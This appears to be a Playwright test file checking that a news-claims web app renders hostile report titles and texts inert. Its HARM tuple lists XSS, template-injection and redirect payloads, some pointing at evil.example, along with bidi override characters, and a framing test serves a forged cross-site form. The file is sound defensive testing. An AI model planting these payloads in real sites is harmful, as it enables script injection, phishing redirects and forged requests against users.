"""Reports made to do harm in a browser: titles, names and texts with script, markup, style and turned writing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from sayso.store import ask
from tests.web.browser.conftest import Serve, made_case, violations

HARM = (
    "<script>window.harmed = 1</script>",
    "<img src=x onerror='window.harmed = 1'>",
    '"><svg onload="window.harmed = 1">',
    "</title></style></textarea></script><script>window.harmed = 1</script>",
    "<style>body { display: none }</style>",
    "javascript:window.harmed=1//",
    "data:text/html,<script>window.harmed=1</script>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}",
    "<base href='http://evil.example/'><form action=http://evil.example><input name=form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "\u202egnitirw denrut\u202c \u2067",
    "&lt;script&gt;&#0;&colon;",
)
RIGHT_TO_LEFT = "وكالة أنباء فيلمورا"


def text(sign: str) -> str:
    """A report that says the same as the others, with a sign in every place that the reader picks up."""
    return (
        f'According to {sign} Press, a spokesman for "{sign}" told the Karn Agency on Tuesday that 14 people had '
        f"been killed in the flood at Velmora. {sign} The ministry {sign} denied that 14 people had been killed in "
        f"the flood at Velmora. Police said that {sign} had burned at the harbour of Ostrel."
    )


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory, installed: str) -> Path:
    """A case of such reports, and one from an outlet whose name is written from right to left."""
    folder = tmp_path_factory.mktemp("hostile")
    files = folder / "reports"
    files.mkdir()
    for number, sign in enumerate((*HARM, RIGHT_TO_LEFT)):
        fields = {"title": sign, "publisher": sign, "agency": sign, "byline": sign, "url": sign, "id": sign}
        line = json.dumps({**fields, "text": text(sign), "published": "2031-03-04"})
        (files / f"{number:02}.jsonl").write_text(line + "\n", encoding="utf-8")
    return made_case(folder / "hostile.case", files)


def addresses(desk: object) -> list[str]:
    """Every page that shows something of such a report."""
    with desk.store.reading() as connection:  # type: ignore[attr-defined]
        claims = [f"/claims/{one['id']}" for one in ask.claims(connection, ask.Wanted(most=8))]
        reports = [f"/reports/{one['id']}" for one in ask.reports(connection)]
        sources = [f"/sources/{one['id']}" for one in ask.sources(connection, most=8)]
        said = ask.statements_of(connection)[0]
    return [
        "/claims",
        "/reports",
        "/sources",
        "/search?q=harmed",
        "/search?q=%3Cscript%3Ewindow.harmed=1",
        "/review",
        "/history",
        f"/reports/{said['report']}?judge={said['id']}",
        *claims,
        *reports,
        *sources,
    ]


def test_it_renders_dead(hostile: Path, serve: Serve, page: Page) -> None:
    """Nothing of it runs, styles, loads, leads away or turns the writing; every sign is shown as it is written."""
    address, desk = serve(hostile)
    asked: list[str] = []
    page.on("request", lambda one: asked.append(one.url))
    page.on("dialog", lambda one: pytest.fail(f"a dialog: {one.message}"))
    for path in addresses(desk):
        page.goto(f"{address}{path}")
        expect(page.locator("[data-making]")).to_have_count(0)
        assert page.evaluate("window.harmed") is None, path
        assert page.evaluate("getComputedStyle(document.body).display") != "none", path
        assert page.url.startswith(address), path
        found = page.evaluate(
            "[...document.querySelectorAll('main script, main style, main base, main meta, main img, main iframe')]"
            ".map(one => one.outerHTML)"
        )
        assert found == [], path
        links = page.evaluate(
            "[...document.querySelectorAll('a')].map(one => new URL(one.href.baseVal ?? one.href, location).origin)"
        )
        assert set(links) <= {address}, path
        assert not set("\u202a\u202b\u202d\u202e\u2066\u2067\u2068") & set(page.content()), path
    assert [one for one in asked if not one.startswith(f"{address}/")] == []


def test_it_is_still_a_page(hostile: Path, serve: Serve, page: Page) -> None:
    """Such a page holds to the same rules as any other, and is no wider than the window."""
    address, desk = serve(hostile)
    page.goto(f"{address}/review")
    page.locator("#question").wait_for()
    page.set_viewport_size({"width": 360, "height": 740})
    for path in addresses(desk)[:11]:
        page.goto(f"{address}{path}")
        assert violations(page) == [], path
        assert (
            page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") <= 0
        ), path


def test_names_from_right_to_left(hostile: Path, serve: Serve, page: Page) -> None:
    """A name that is written from right to left stands apart from the words around it."""
    address, _ = serve(hostile)
    page.goto(f"{address}/reports")
    isolated = page.locator("bdi", has_text=RIGHT_TO_LEFT).first
    assert isolated.evaluate("one => getComputedStyle(one).unicodeBidi") == "isolate"


def test_framing_is_refused(hostile: Path, serve: Serve, context: BrowserContext) -> None:
    """A page of another site can neither frame the desk nor send it a form."""
    address, desk = serve(hostile)
    page = context.new_page()
    before = desk.bench.jobs
    page.route(
        "http://evil.example/",
        lambda one: one.fulfill(content_type="text/html", body=EVIL % (address, address)),
    )
    page.goto("http://evil.example/")
    page.wait_for_timeout(300)
    assert [one for one in page.frames if one.url.startswith(address)] == []
    page.get_by_role("button").click()
    page.wait_for_load_state()
    assert "takes no orders" in page.content()
    assert desk.bench.jobs == before


EVIL = """<!doctype html><title>x</title><iframe src="%s/claims"></iframe>
<form method="post" action="%s/add"><input name="text" value="planted"><button>win</button></form>"""
